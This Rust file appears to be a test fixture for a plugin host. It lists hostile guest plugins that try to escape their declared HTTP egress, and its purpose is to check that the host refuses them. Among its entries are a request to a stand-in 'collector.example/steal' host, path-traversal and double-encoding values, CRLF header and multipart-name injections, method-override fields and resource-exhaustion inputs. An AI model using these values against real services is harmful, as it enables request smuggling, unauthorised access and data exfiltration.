//! Ways out of what was declared.

use wharf_plugin::bindings::wharf::provider::http;
use wharf_plugin::*;

use crate::guest;

pub(crate) const GUESTS: Resource = Resource::new(
    "egress",
    &[
        guest("asks-for-a-url", |call| sent(call.request("https://collector.example/steal"))),
        guest("asks-for-nothing", |call| sent(call.request(""))),
        guest("asks-for-a-request-with-escapes-in-its-name", |call| sent(call.request("\u{1b}[2Jlist\r\n"))),
        guest("gives-a-variable-that-is-not-there", |call| sent(call.request("list").variable("id", "1"))),
        guest("gives-a-parameter-that-was-not-declared", |call| sent(call.request("search").query("Q", "1"))),
        guest("gives-a-header-that-was-not-declared", |call| {
            sent(call.request("list").header("Host", "collector.example"))
        }),
        guest("leaves-a-variable-out", |call| sent(call.request("get"))),
        guest("climbs-out-of-the-path", |call| sent(call.request("get").variable("id", "../users/ada"))),
        guest("hides-a-slash-in-an-encoding", |call| sent(call.request("get").variable("id", "a%252fb"))),
        guest("hides-dots-before-a-semicolon", |call| sent(call.request("get").variable("id", "..;a=b"))),
        guest("empties-a-segment", |call| sent(call.request("get").variable("id", ""))),
        guest("names-a-sibling", |call| sent(call.request("get").variable("id", "ALL"))),
        guest("splits-a-header", |call| sent(call.request("marked").header("X-Part", "1\r\nX-Key: mine"))),
        guest("poses-with-another-key", |call| sent(call.request("rpc").json(&json!({ "KEY": "mine" })))),
        guest("overrides-the-method", |call| sent(form(call, "_method", "DELETE"))),
        guest("overrides-the-method-by-another-name", |call| sent(form(call, "X-HTTP-Method_Override", "DELETE"))),
        guest("gives-the-operation-a-second-time", |call| sent(form(call, "operation", "delete"))),
        guest("gives-the-operation-with-brackets", |call| sent(form(call, "operation[]", "delete"))),
        guest("gives-the-operation-in-brackets", |call| sent(form(call, "[operation]", "delete"))),
        guest("gives-the-operation-with-a-zero-byte", |call| sent(form(call, " Operation\0x", "delete"))),
        guest("gives-a-constant-as-php-mangles-it", |call| sent(form(call, "session.name", "other"))),
        guest("gives-a-constant-with-half-a-bracket", |call| sent(form(call, "session[name", "other"))),
        guest("gives-the-method-a-second-time", |call| sent(call.request("rpc").json(&json!({ "Method": "delete" })))),
        guest("names-a-member-twice", |_| raw("rpc", http::Body::Json(r#"{"a": 1, "\u0061": 2}"#.to_owned()))),
        guest("sends-a-batch", |_| raw("rpc", http::Body::Json(r#"[{"method": "delete"}]"#.to_owned()))),
        guest("gives-a-body-of-another-form", |call| sent(call.request("list").json(&json!({})))),
        guest("breaks-out-of-a-quoted-name", |_| {
            let text = http::PartContent::Text("delete".to_owned());
            raw(
                "upload",
                http::Body::Multipart(vec![http::Part { name: "x; name=operation".to_owned(), content: text }]),
            )
        }),
        guest("breaks-out-of-a-file-name", |_| {
            let name = "a; name=operation; x=\"\\\r\nX-Injected: 1";
            let file = http::PartContent::Blob(Blob::create(b"x", "Text/Plain", Some(name)));
            raw("upload", http::Body::Multipart(vec![http::Part { name: "file".to_owned(), content: file }]))
        }),
        guest("breaks-out-of-a-media-type", |_| {
            let file = http::PartContent::Blob(Blob::create(b"x", "text/plain\r\nX-Injected: 1", None));
            raw("upload", http::Body::Multipart(vec![http::Part { name: "file".to_owned(), content: file }]))
        }),
        guest("gives-a-file-of-another-type", |call| {
            let file = Blob::create(b"{\"operation\": \"delete\"}", "x;y, application/json", None);
            sent(call.request("picture").blob(file))
        }),
        guest("gives-more-fields-than-servers-take", |call| {
            sent(call.request("command").form(vec![("x".to_owned(), String::new()); 5000]))
        }),
        guest("asks-for-an-endless-url", |call| sent(call.request("search").query("q", "x".repeat(70_000)))),
        guest("gives-a-variable-of-megabytes", |call| sent(call.request("get").variable("id", ".".repeat(20 << 20)))),
        guest("gives-a-million-values", |call| {
            sent((0..1_000_000).fold(call.request("search"), |request, _| request.query("q", "x")))
        }),
        guest("goes-on-after-a-refusal", |call| {
            let _ = call.request("undeclared").send();
            sent(call.request("list"))
        }),
        // These do nothing wrong: it is the connection, or the provider, that would lead them elsewhere.
        guest("asks-wherever-the-connection-leads", |call| sent(call.request("list"))),
        guest("is-redirected", |call| sent(call.request("list"))),
        guest("is-given-an-unknown-encoding", |call| sent(call.request("list"))),
        guest("does-what-was-not-granted", |call| {
            log::warning("it ran");
            sent(call.request("list"))
        }),
    ],
);

/// What the guest makes of an answer: its status, so that a test sees what it got to see.
fn sent(request: Request) -> Result<Output, Failure> {
    Ok(Output::json(&json!(request.send()?.status)))
}

fn form(call: &Call<'_>, name: &str, value: &str) -> Request {
    call.request("command").form(vec![(name.to_owned(), value.to_owned())])
}

/// What the kit for authors has no way to say.
fn raw(name: &str, body: http::Body) -> Result<Output, Failure> {
    let request =
        http::Request { name: name.to_owned(), variables: vec![], query: vec![], headers: vec![], body: Some(body) };
    Ok(Output::json(&json!(http::send(request)?.status)))
}
